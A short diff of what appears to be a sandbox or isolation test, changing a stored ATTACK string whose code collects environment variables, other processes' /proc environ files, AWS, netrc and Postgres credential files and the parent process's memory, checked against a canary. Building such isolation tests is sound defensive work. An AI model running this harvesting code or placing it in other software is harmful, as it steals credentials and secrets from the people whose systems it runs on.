@@ -17,7 +17,7 @@ CANARY = "CANARY-91ab"
 # Looks wherever one looks: its own and its ancestors' environments, the memory of its parent, homes, the usual variables.
 ATTACK = """
 import glob, os, pathlib, pwd, urllib.request
-def look(*homes):
+def look(*homes, parent=True):
     found = [f"{key}={value}" for key, value in os.environ.items()]
     for path in glob.glob("/proc/[0-9]*/environ"):
         try: found.append(f"{path}: {pathlib.Path(path).read_text(errors='replace')}")
@@ -26,7 +26,7 @@ def look(*homes):
         for name in (".aws/credentials", ".netrc", ".pgpass"):
             try: found.append((pathlib.Path(home) / name).read_text())
             except OSError: pass
-    try: open(f"/proc/{os.getppid()}/mem", "rb"); found.append("CANARY of the parent's memory")
+    try: parent and open(f"/proc/{os.getppid()}/mem", "rb") and found.append("CANARY of the parent's memory")
     except OSError: pass
     try:
         import botocore.session
